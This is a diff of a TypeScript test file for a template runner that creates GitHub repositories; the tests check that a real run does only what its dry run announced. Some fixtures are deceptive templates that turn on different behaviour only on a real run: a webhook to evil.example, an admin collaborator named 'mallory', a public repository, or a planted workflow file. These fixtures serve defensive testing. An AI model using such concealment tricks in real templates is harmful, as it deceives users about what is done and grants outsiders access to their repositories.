@@ -19,7 +19,19 @@ describe('runs of templates that change something', () => {
     'users.getByUsername': { login: 'acme', id: 1, type: 'Organization' },
     'users.getAuthenticated': { login: 'me', id: 2, name: 'Me', email: null },
     'repos.createInOrg': { clone_url: `https://${HOST}/acme/x.git`, html_url: `https://${HOST}/acme/x` },
-    'repos.get': { clone_url: 'c', html_url: 'h', default_branch: 'main', size: 0 },
+    'issues.create': { html_url: `https://${HOST}/acme/x/issues/117`, number: 117 },
+    'pulls.list': [],
+    'pulls.create': { html_url: `https://${HOST}/acme/x/pull/117`, number: 117, base: { ref: 'main' } },
+    'git.getRef': { object: { sha: 's' } },
+    'git.getCommit': { sha: 's', tree: { sha: 't' } },
+    'git.createCommit': { sha: 'c' },
+    'repos.get': {
+      permissions: { push: true },
+      clone_url: 'c',
+      html_url: 'h',
+      default_branch: 'main',
+      size: 0,
+    },
   };
   const github = {
     call: (_host: string, name: keyof GitHubCalls, parameters: { owner?: string; repo?: string }) => {
@@ -95,6 +107,27 @@ describe('runs of templates that change something', () => {
     return { ...request, id: 'r1', agreed: effects, ...more };
   }
 
+  const issue = {
+    id: 'issue',
+    action: 'github:issues:create',
+    input: { repoUrl: `${HOST}?owner=acme&repo=x`, title: 'Welcome' },
+  };
+  const isReal = "${{ context.task.id != '<id>' }}";
+  const repoUrl = `${HOST}?owner=acme&repo=x`;
+
+  /** Dry run, then what is done of it. */
+  async function bothOf(
+    steps: readonly object[],
+    { id, later = steps, ...more }: { id?: string; later?: readonly object[] } & Partial<RunRequest> = {},
+    here = templates(),
+  ) {
+    const request = { values: { repo: 'x' }, ...more };
+    const dry = await here.dryRun({ ...request, template: template(steps), ...(id !== undefined && { id }) });
+    assert.deepEqual(dry.errors, []);
+    const run = await here.run({ ...request, template: template(later), id: 'r1', agreed: dry.effects });
+    return { dry, run, asked: asked.filter((each) => !each.startsWith('users.')) };
+  }
+
   it('does what a dry run said it would, and tells what happens', async () => {
     const request = await requestFor([file, publish, register]);
     assert.deepEqual(
@@ -145,9 +178,382 @@ describe('runs of templates that change something', () => {
     assert.equal(run.status, 'failed');
     assert.match(
       run.errors[0]?.message ?? '',
-      /acme\/other on github\.acme\.com, which was not among what you agreed to/,
+      /step publish \(publish:github\).*github\.acme\.com\/acme\/other was not among what you agreed to/,
     );
     assert.deepEqual([asked.filter((each) => !each.startsWith('users.')), pushes], [[], []]);
+  });
+
+  it('does nothing that a template kept from its dry run', async () => {
+    const hidden: [string, readonly object[]][] = [
+      [
+        'visibility',
+        [
+          {
+            ...publish,
+            input: {
+              ...publish.input,
+              repoVisibility: `\${{ 'public' if context.task.id != '<id>' else 'private' }}`,
+            },
+          },
+        ],
+      ],
+      [
+        'somebody',
+        [
+          {
+            ...publish,
+            input: {
+              ...publish.input,
+              collaborators: `\${{ [{ access: 'admin', user: 'mallory' }] if context.task.id != '<id>' else [] }}`,
+            },
+          },
+        ],
+      ],
+      [
+        'a file',
+        [
+          {
+            action: 'roadiehq:utils:fs:write',
+            if: isReal,
+            input: { path: '.github/workflows/x.yml', content: 'x' },
+          },
+          publish,
+        ],
+      ],
+      [
+        'what a file holds',
+        [
+          { action: 'roadiehq:utils:fs:write', input: { path: 'a', content: '${{ context.task.id }}' } },
+          publish,
+        ],
+      ],
+      [
+        'a webhook',
+        [{ action: 'github:webhook', if: isReal, input: { repoUrl, webhookUrl: 'https://evil.example' } }],
+      ],
+      [
+        'an entry of the catalog',
+        [
+          {
+            action: 'catalog:register',
+            if: isReal,
+            input: { catalogInfoUrl: 'https://evil.example/x.yaml' },
+          },
+        ],
+      ],
+      [
+        'who is told of it',
+        [
+          {
+            action: 'github:webhook',
+            input: { repoUrl, webhookUrl: 'https://a', events: ['${{ context.task.id }}'] },
+          },
+        ],
+      ],
+    ];
+    for (const [what, steps] of hidden) {
+      [asked, pushes, registered] = [[], [], []];
+      const { run, asked: done } = await bothOf([file, ...steps]);
+      assert.equal(run.status, 'failed', what);
+      assert.match(
+        run.errors[0]?.message ?? '',
+        /was not among what you agreed to.*Look at a dry run again/,
+        what,
+      );
+      assert.equal(run.failure?.code, 'not-agreed');
+      assert.deepEqual([done, pushes, registered], [[], [], []], what);
+      // Where it is given the id of its run a template finds out nothing.
+      const { run: told } = await bothOf([file, ...steps], { id: 'r1' });
+      assert.deepEqual([told.status, told.errors], ['completed', []], what);
+    }
+  });
+
+  it('does nothing of a template or skeleton that changed since', async () => {
+    for (const later of [
+      [file, { ...publish, input: { ...publish.input, topics: ['new'] } }],
+      [{ ...file, input: { ...file.input, content: 'other' } }, publish],
+      [file, publish, publish],
+    ]) {
+      [asked, pushes] = [[], []];
+      const { run } = await bothOf([file, publish], { id: 'r1', later });
+      assert.match(run.errors[0]?.message ?? '', /was not among what you agreed to/);
+      // Nothing is left half done.
+      assert.deepEqual(asked, []);
+    }
+  });
+
+  it('knows what only a run finds out from what a template makes of it', async () => {
+    const number = '${{ steps.issue.output.issueNumber }}';
+    const after = [
+      { action: 'github:issues:label', input: { repoUrl, number, labels: ['new'] } },
+      {
+        action: 'github:issues:create',
+        input: { repoUrl, title: `See #${number}`, body: '${{ steps.publish.output.commitHash }}' },
+      },
+      {
+        action: 'roadiehq:utils:fs:write',
+        input: {
+          path: 'b',
+          content: `#${number} of 1174, \${{ steps.publish.output.commitHash }} \${{ steps.publish.output.remoteUrl }}`,
+        },
+      },
+      { action: 'github:repo:push', input: { repoUrl, defaultBranch: `issue-${number}` } },
+    ];
+    const { run, dry } = await bothOf([file, publish, issue, ...after], { id: 'r1' });
+    assert.deepEqual(run.errors, []);
+    assert.deepEqual([run.status, pushes[1]?.branch], ['completed', 'issue-117']);
+    const { content } = dry.files.find(({ path }) => path === 'b')!;
+    assert.equal(new TextDecoder().decode(content), `#42 of 1174, <example> https://${HOST}/acme/x.git`);
+    const evil = `\${{ 'evil' if steps.issue.output.issueNumber != 42 else 'good' }}`;
+    for (const step of [
+      { action: 'github:issues:create', input: { repoUrl, title: evil } },
+      { action: 'github:issues:create', input: { repoUrl, title: 'x', body: evil } },
+      {
+        ...publish,
+        input: {
+          ...publish.input,
+          repoVisibility: `\${{ 'public' if steps.issue.output.issueNumber != 42 else 'private' }}`,
+        },
+      },
+      {
+        action: 'github:issues:label',
+        each: `\${{ [1] if steps.issue.output.issueNumber != 42 else [] }}`,
+        input: { repoUrl, number: 1, labels: ['x'] },
+      },
+    ]) {
+      const { run } = await bothOf([issue, step], { id: 'r1' });
+      assert.match(run.errors[0]?.message ?? '', /was not among what you agreed to/);
+    }
+  });
+
+  it('takes no branch for the one that GitHub answers with', async () => {
+    const pull = {
+      id: 'pr',
+      action: 'publish:github:pull-request',
+      input: { repoUrl, branchName: 'add', title: 't', description: 'd' },
+    };
+    const defaultBranch = "${{ 'main' if steps.pr.output.pullRequestNumber != 43 else 'add' }}";
+    const { run } = await bothOf(
+      [file, pull, { action: 'github:repo:push', input: { repoUrl, defaultBranch } }],
+      { id: 'r1' },
+    );
+    assert.match(run.errors[0]?.message ?? '', /was not among what you agreed to/);
+    assert.deepEqual(pushes, []);
+  });
+
+  it('goes on after a failure with what was agreed to, and with nothing else', async () => {
+    const here = templates();
+    const label = {
+      action: 'github:issues:label',
+      input: { repoUrl, number: '${{ steps.issue.output.issueNumber }}', labels: ['a'] },
+    };
+    const steps = [file, issue, publish, label];
+    fails = (name) => (name === 'push' ? new Error('No network.') : undefined);
+    const request = { values: { repo: 'x' }, template: template(steps), id: 'r1' };
+    const { effects } = await here.dryRun(request);
+    assert.equal((await here.run({ ...request, agreed: effects })).status, 'failed');
+    fails = undefined;
+    const less = effects.filter(({ kind }) => kind !== 'push');
+    assert.match(
+      (await here.run({ ...request, agreed: less, isRetry: true })).errors[0]?.message ?? '',
+      /not among what you agreed/,
+    );
+    const { status, errors } = await here.run({ ...request, agreed: effects, isRetry: true });
+    assert.deepEqual([status, errors], ['completed', []]);
+  });
+
+  it('tells secrets apart from what is made of them', async () => {
+    const secrets = { T: 'a1', PLACE: 'hooks' };
+    const hook = {
+      action: 'github:webhook',
+      input: {
+        repoUrl,
+        webhookUrl: 'https://${{ secrets.PLACE }}/x',
+        webhookSecret: '${{ secrets.T | upper }}',
+      },
+    };
+    const { run, dry } = await bothOf([hook], { id: 'r1', secrets });
+    assert.deepEqual(
+      [run.errors, dry.effects.map((effect) => 'url' in effect && effect.url)],
+      [[], ['https://***/x']],
+    );
+    const made = {
+      ...publish,
+      input: { ...publish.input, repoVisibility: `\${{ 'private' if secrets.T == '***' else 'public' }}` },
+    };
+    const { run: refused } = await bothOf([file, made], { id: 'r1', secrets });
+    assert.match(refused.errors[0]?.message ?? '', /not among what you agreed to/);
+  });
+
+  it('holds the steps after an action that does not say what it does', async () => {
+    const acme = {
+      describe: () =>
+        Promise.resolve([
+          {
+            id: 'acme:name',
+            description: '',
+            supportsDryRun: false,
+            schema: { output: { type: 'object', properties: { name: { type: 'string' } } } },
+          },
+        ]),
+      run: () =>
+        Promise.resolve({
+          log: [],
+          outputs: { name: 'orders' },
+          written: [{ path: 'made', bytes: new Uint8Array([1]), executable: false }],
+          deleted: [],
+        }),
+    };
+    const here = () => templatesIn('file:///none', [], acme, { outside });
+    const open = { id: 'open', action: 'acme:name', input: {} };
+    const named = {
+      ...publish,
+      input: { ...publish.input, repoUrl: `${HOST}?owner=acme&repo=\${{ steps.open.output.name }}` },
+    };
+    const text = { ...file, input: { path: 'a', content: 'Name: ${{ steps.open.output.name }}' } };
+    const { run } = await bothOf([file, open, text, named], { id: 'r1' }, here());
+    assert.deepEqual(run.errors, []);
+    assert.deepEqual(
+      pushes[0]?.files.map(({ path }) => path),
+      ['a', 'catalog-info.yaml', 'made'],
+    );
+    for (const step of [
+      {
+        action: 'github:webhook',
+        if: '${{ steps.open.output.name == "orders" }}',
+        input: { repoUrl, webhookUrl: 'https://a' },
+      },
+      {
+        ...publish,
+        input: {
+          ...publish.input,
+          repoVisibility: '${{ "public" if steps.open.output.name == "orders" else "private" }}',
+        },
+      },
+    ]) {
+      const { run } = await bothOf([file, open, step], { id: 'r1' }, here());
+      assert.match(run.errors[0]?.message ?? '', /not among what you agreed to/);
+    }
+  });
+
+  it('says before that a step would fail, and of that step nothing else', async () => {
+    const dryOf = async (...steps: readonly object[]) => {
+      const {
+        status,
+        effects,
+        warnings = [],
+      } = await templates().dryRun({
+        template: template(steps),
+        values: { repo: 'x' },
+      });
+      assert.equal(status, 'completed');
+      return {
+        kinds: effects.map(({ kind }) => kind),
+        said: warnings.map(({ stepId, fails, message }) => `${stepId} ${fails}: ${message}`),
+      };
+    };
+    const withInput = (more: object) => ({ ...publish, input: { ...publish.input, ...more } });
+    const pull = { action: 'publish:github:pull-request', id: 'pr' };
+    const opened = { repoUrl, branchName: 'b', title: 't', description: 'd' };
+    const label = { action: 'github:issues:label', id: 'label' };
+    const known = await dryOf(file, withInput({ allowedHosts: [HOST] }));
+    assert.deepEqual(known.kinds, ['create-repository', 'push']);
+    assert.match(known.said.join(), /^publish true: The step would fail\. .*"allowedHosts"$/);
+    for (const [steps, why] of [
+      [[file, withInput({ repoVisibility: 'secret' })], /^publish true: .*repoVisibility/],
+      [[file, withInput({ repoUrl: `${HOST}?owner=acme&repo=my service` })], /acme\/my service can't be/],
+      [[file, withInput({ repoUrl: 'ghe.example.com?owner=acme&repo=x' })], /ghe\.example\.com/],
+      [[file, withInput({ repoUrl: 'gitlab.com?owner=acme&repo=x' })], /is not a GitHub server/],
+      [[file, { ...pull, input: { ...opened, sourcePath: 'none' } }], /^pr true: .*no folder none/],
+      [[{ ...label, input: { repoUrl, number: 'one', labels: ['a'] } }], /^label true: .*number/],
+    ] as const) {
+      const { kinds, said } = await dryOf(...steps);
+      assert.deepEqual([kinds, said.length], [[], 1], String(why));
+      assert.match(said[0]!, why);
+    }
+    // What comes of an action that does not say it may well fit.
+    const acme = {
+      describe: () => Promise.resolve([{ id: 'acme:new', description: '', supportsDryRun: false }]),
+    };
+    const number = '${{ steps.new.output.number }}';
+    const { effects, warnings } = await templatesIn('file:///none', [], acme as never, { outside }).dryRun({
+      template: template([
+        { id: 'new', action: 'acme:new' },
+        { ...label, input: { repoUrl, number, labels: ['a'] } },
+      ]),
+      values: { repo: 'x' },
+    });
+    assert.deepEqual([effects.map(({ kind }) => kind), warnings], [['other', 'other'], []]);
+  });
+
+  it('names what was agreed to and is not done, also after it goes on from a failure', async () => {
+    const here = templates();
+    const people = {
+      ...publish,
+      input: {
+        ...publish.input,
+        protectDefaultBranch: true,
+        topics: ['a'],
+        collaborators: [{ access: 'push', user: 'ada' }],
+      },
+    };
+    const label = { action: 'github:issues:label', input: { repoUrl, number: 1, labels: ['new'] } };
+    const hook = { action: 'github:webhook', input: { repoUrl, webhookUrl: 'https://a' } };
+    const request = {
+      values: { repo: 'x' },
+      template: template([file, people, label, hook, issue]),
+      id: 'r1',
+    };
+    const { effects } = await here.dryRun(request);
+    const bad = [
+      'repos.addCollaborator',
+      'repos.replaceAllTopics',
+      'repos.updateBranchProtection',
+      'issues.addLabels',
+      'repos.createWebhook',
+    ];
+    fails = (name) => ([...bad, 'issues.create'].includes(name) ? new Error('Rate limit.') : undefined);
+    assert.equal((await here.run({ ...request, agreed: effects })).status, 'failed');
+    fails = undefined;
+    const run = await here.run({ ...request, agreed: effects, isRetry: true });
+    assert.deepEqual([run.status, run.errors], ['completed', []]);
+    assert.deepEqual(
+      run.notDone?.map((each) => /ada|topics|main|#1|notify/.exec(each)?.[0]),
+      ['ada', 'topics', 'main', '#1', 'notify'],
+    );
+    assert.ok(run.notDone?.every((each) => each.endsWith(': Rate limit.')));
+    // What fails in the end is tried again with the step.
+    fails = (name) =>
+      name === 'push' || name === 'repos.addCollaborator' ? new Error('Offline.') : undefined;
+    assert.equal((await here.run({ ...request, id: 'r2', agreed: effects })).status, 'failed');
+    fails = undefined;
+    const again = await here.run({ ...request, id: 'r2', agreed: effects, isRetry: true });
+    assert.deepEqual([again.status, again.notDone], ['completed', undefined]);
+    const less = await bothOf([issue, { ...label, if: '${{ steps.issue.output.issueNumber == 42 }}' }], {
+      id: 'r1',
+    });
+    assert.deepEqual(less.run.notDone, ['Step step-2 (github:issues:label) did less than was announced.']);
+  });
+
+  it('gives no step what only stands for a token', async () => {
+    const token = '${{ secrets.USER_OAUTH_TOKEN }}';
+    const more = { secrets: { USER_OAUTH_TOKEN: 'no-token' }, standIns: ['USER_OAUTH_TOKEN'], id: 'r1' };
+    const fine = { ...publish, if: token, input: { ...publish.input, token } };
+    const { run, dry } = await bothOf([file, fine], more);
+    assert.deepEqual([run.status, run.errors, dry.warnings], ['completed', [], []]);
+    asked = [];
+    for (const step of [
+      { ...publish, input: { ...publish.input, secrets: { CI_TOKEN: `Bearer ${token}` } } },
+      { ...publish, id: 'publish', each: ['a'], input: { ...publish.input, topics: [token] } },
+    ]) {
+      const { run, dry } = await bothOf([file, step], more);
+      assert.deepEqual(
+        dry.warnings?.map(({ stepId, fails }) => [stepId, fails]),
+        [['publish', true]],
+      );
+      assert.match(run.errors[0]?.message ?? '', /secret USER_OAUTH_TOKEN.*no template gets here/);
+      assert.deepEqual(asked, []);
+    }
   });
 
   it('says that nobody is signed in', async () => {
